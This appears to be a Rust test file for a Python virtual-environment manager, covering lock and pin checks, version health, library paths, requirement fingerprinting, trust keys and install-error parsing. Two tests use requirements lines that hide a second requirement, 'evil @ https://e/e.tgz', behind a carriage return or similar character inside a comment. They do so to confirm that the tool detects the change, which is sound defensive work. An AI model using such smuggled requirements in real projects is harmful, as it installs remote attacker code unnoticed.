use super::*;
use crate::config::{Libraries, ProjectConfig};
use crate::protocol::Op;

#[test]
fn a_poetry_lock_is_satisfied_by_what_the_venv_has_at_the_locked_versions() {
    let dir = tempfile::tempdir().unwrap();
    let site = dir.path().join("lib/python3.11/site-packages");
    for d in [
        "Greet_Lib-0.1.0.dist-info",
        "extra-1.0.0.dist-info",
        "greet_lib",
    ] {
        std::fs::create_dir_all(site.join(d)).unwrap();
    }
    let have = installed(dir.path());
    assert_eq!(have.get("greet-lib").map(String::as_str), Some("0.1.0"));
    assert_eq!(have.len(), 2, "{have:?}");
    let lock = |body: &str| satisfies_poetry_lock(body.as_bytes(), &have);
    let pkg = |name: &str, version: &str, more: &str| {
        format!("[[package]]\nname = \"{name}\"\nversion = \"{version}\"\n{more}\n")
    };
    assert!(lock(
        &(pkg("greet.lib", "0.1.0", "") + &pkg("extra", "1.0.0", ""))
    ));
    assert!(!lock(&pkg("greet-lib", "0.2.0", "")), "another version");
    assert!(!lock(&pkg("new", "1.0", "")), "not installed");
    assert!(lock(&pkg("new", "1.0", "optional = true")), "an extra's");
    assert!(
        lock(&pkg(
            "colorama",
            "0.4",
            "markers = \"sys_platform == 'win32'\""
        )),
        "conditional"
    );
    assert!(!lock("not a lock"));
    assert!(!lock(""), "no packages is no proof");
}

#[test]
fn only_exact_pins_are_checked_against_the_venv() {
    let have = [("greet".to_string(), "0.1.0".to_string())].into();
    let pins = |lines: &[&str]| satisfies_pins(lines.iter().copied(), &have);
    assert!(pins(&["greet==0.1.0"]));
    assert!(pins(&[
        "Greet[fast] == 0.1.0",
        "colorama==0.4; sys_platform == 'win32'"
    ]));
    assert!(!pins(&["greet==0.2.0"]));
    assert!(!pins(&["greet>=0.1"]));
    assert!(!pins(&["-e ./helper"]));
    assert!(!pins(&["--index-url https://x", "greet==0.1.0"]));
    assert!(!pins(&["greet @ file:///w/greet.whl"]));
    assert!(!pins(&["other==1.0"]));
}

#[test]
fn prompt_from_cfg_or_dir_name() {
    let dir = tempfile::tempdir().unwrap();
    let venv = dir.path().join(".venv");
    std::fs::create_dir(&venv).unwrap();
    std::fs::write(venv.join("pyvenv.cfg"), "home = /usr/bin\n").unwrap();
    assert_eq!(prompt(&venv), ".venv");
    std::fs::write(venv.join("pyvenv.cfg"), "home = /x\nprompt = 'api'\n").unwrap();
    assert_eq!(prompt(&venv), "api");
}

#[test]
fn versions_compare_by_major_minor() {
    assert_eq!(major_minor("Python 3.11.2").as_deref(), Some("3.11"));
    assert_eq!(major_minor("3.12.0rc1").as_deref(), Some("3.12"));
    let dir = tempfile::tempdir().unwrap();
    let venv = dir.path().join("v");
    std::fs::create_dir_all(venv.join("bin")).unwrap();
    std::os::unix::fs::symlink("/bin/sh", venv.join("bin/python3")).unwrap();
    std::fs::write(
        venv.join("pyvenv.cfg"),
        "home = /bin\nversion_info = 3.11.2\n",
    )
    .unwrap();
    assert_eq!(health(&venv, Some("3.11.7")), None);
    assert!(
        health(&venv, Some("3.12.1"))
            .unwrap()
            .contains("Python 3.11")
    );
    std::fs::write(
        venv.join("pyvenv.cfg"),
        "home = /nix/store/gone-python/bin\n",
    )
    .unwrap();
    assert!(health(&venv, None).unwrap().contains("no longer exists"));
}

#[test]
fn library_dirs_of_store_paths() {
    let dir = tempfile::tempdir().unwrap();
    let zlib = dir.path().join("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa-zlib-1.3");
    let cc = dir
        .path()
        .join("bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb-gcc-13-lib");
    let nolib = dir.path().join("cccccccccccccccccccccccccccccccc-hello");
    for p in [&zlib, &cc] {
        std::fs::create_dir_all(p.join("lib")).unwrap();
    }
    std::fs::create_dir_all(&nolib).unwrap();
    let paths = vec![zlib.clone(), cc.clone(), nolib];
    let Some(Op::Prepend { entries, .. }) = libraries(&paths, &Libraries::All(true)) else {
        panic!()
    };
    assert_eq!(entries.len(), 2);
    let Some(Op::Prepend { entries, .. }) =
        libraries(&paths, &Libraries::Only(vec!["zlib".into()]))
    else {
        panic!()
    };
    assert_eq!(entries, vec![bytes(&zlib.join("lib"))]);
    assert!(libraries(&paths, &Libraries::All(false)).is_none());
}

#[test]
fn a_comment_in_a_requirements_file_is_no_change() {
    let fp = |name: &str, text: &str| {
        super::wanted::fingerprint(&[(PathBuf::from(name), text.as_bytes().to_vec())], "3.11")
    };
    let plain = fp("requirements.txt", "tinypkg==2.0\n");
    assert_eq!(
        plain,
        fp("requirements.txt", "# pinned\n\ntinypkg==2.0   # why\n")
    );
    assert_ne!(plain, fp("requirements.txt", "tinypkg==2.1\n"));
    // A URL fragment is no comment.
    assert_ne!(
        fp("requirements.txt", "x @ https://h/x.whl#sha256=1\n"),
        fp("requirements.txt", "x @ https://h/x.whl\n")
    );
    // A lock counts byte for byte.
    assert_ne!(fp("uv.lock", "a\n"), fp("uv.lock", "# c\na\n"));
    // pip starts a line at a `\r` (or a form feed) too: what follows a comment
    // there is a requirement, and a change.
    for sep in ["\r", "\x0c", "\u{2028}"] {
        assert_ne!(
            plain,
            fp(
                "requirements.txt",
                &format!("tinypkg==2.0  # http{sep}evil @ https://e/e.tgz\n")
            ),
            "{sep:?}"
        );
    }
}

#[test]
fn trust_keys_the_exact_bytes_of_what_would_be_installed() {
    let dir = tempfile::tempdir().unwrap();
    let config = ProjectConfig::default();
    let key = |text: &str| {
        std::fs::write(dir.path().join("requirements.txt"), text).unwrap();
        Inputs::of(dir.path(), &config).unwrap().key
    };
    let allowed = key("requests==2.32.3  # http\n");
    assert_ne!(
        allowed,
        key("requests==2.32.3  # http\revil @ https://e/e.tgz\n")
    );
    assert_ne!(allowed, key("requests==2.32.3  # https\n"), "a comment too");
    assert_eq!(allowed, key("requests==2.32.3  # http\n"));
    // What the requirements include is installed too, so it is keyed too.
    std::fs::create_dir(dir.path().join("reqs")).unwrap();
    std::fs::write(dir.path().join("reqs/base.txt"), "-c pins.txt\nflask\n").unwrap();
    std::fs::write(dir.path().join("reqs/pins.txt"), "flask==3.0\n").unwrap();
    let with = key("-r reqs/base.txt\nrequests==2.32.3\n");
    let names = Inputs::of(dir.path(), &config).unwrap().names();
    assert_eq!(names, "requirements.txt, reqs/base.txt, reqs/pins.txt");
    // pip is handed only the file named: it follows the includes itself, and a
    // constraints file passed as requirements would install what it pins.
    let wanted = Wanted::of(dir.path(), &config, "3.11").unwrap();
    assert_eq!(wanted.files, [dir.path().join("requirements.txt")]);
    std::fs::write(dir.path().join("reqs/pins.txt"), "flask==3.1\n").unwrap();
    assert_ne!(with, key("-r reqs/base.txt\nrequests==2.32.3\n"));
    // An empty `requirements` list installs nothing; a pyproject named alone
    // is the project, keyed with its build files.
    let none = crate::config::VenvConfig {
        requirements: Some(vec![]),
        ..Default::default()
    };
    let empty = ProjectConfig {
        venv: none,
        ..Default::default()
    };
    assert!(Inputs::of(dir.path(), &empty).unwrap().files.is_empty());
}

#[test]
fn the_reason_of_a_failed_install_is_its_first_error_line() {
    let pip = "Collecting x\n  Downloading …\nERROR: Could not find a version that satisfies x\nERROR: No matching distribution found for x\n";
    assert_eq!(
        first_reason(pip),
        "Could not find a version that satisfies x"
    );
    let uv = "Using CPython 3.11\n  × No solution found when resolving dependencies:\n  ╰─▶ Because x was not found\n";
    assert_eq!(
        first_reason(uv),
        "No solution found when resolving dependencies: Because x was not found"
    );
    let poetry = "Updating dependencies\nBecause demo depends on x (9) which doesn't match any versions, version solving failed.\n";
    assert!(first_reason(poetry).starts_with("Because demo depends on x (9)"));
    assert_eq!(first_reason("\n\nsomething broke\n"), "something broke");
    assert_eq!(first_reason(""), "it said nothing");
    assert!(first_reason(&format!("error: {}", "y".repeat(500))).ends_with("y…"));
}

#[test]
fn requires_python_is_read_and_met_as_pep_440_says() {
    for (version, spec, met) in [
        ("3.11.2", ">=3.9", true),
        ("3.11.2", ">=3.12", false),
        ("3.11.2", ">=3.9,<3.11", false),
        ("3.11.2", ">=3.9, <4", true),
        ("3.11.2", "==3.11.*", true),
        ("3.11.2", "!=3.11.*", false),
        ("3.11.2", "~=3.10", true),
        ("3.11.2", "~=3.10.2", false),
        ("3.10.5", "~=3.10.2", true),
        ("3.11.0", "==3.11", true),
        ("3.11.2", "something odd", true),
        ("3.13.0rc1", ">=3.13", true),
    ] {
        assert_eq!(meets(version, spec), met, "{version} {spec}");
    }
    let file = |name: &str, text: &str| (name.to_string(), text.as_bytes().to_vec());
    let pyproject = file(
        "pyproject.toml",
        "[project]\nrequires-python = \">=3.12\"\n",
    );
    let lock = file("uv.lock", "version = 1\nrequires-python = \">=3.10\"\n");
    assert_eq!(
        requires_python(&[lock.clone(), pyproject]),
        Some(("pyproject.toml".into(), ">=3.12".into()))
    );
    assert_eq!(
        requires_python(&[lock]),
        Some(("uv.lock".into(), ">=3.10".into()))
    );
    assert_eq!(
        requires_python(&[file("pyproject.toml", "[project]\n")]),
        None
    );
}
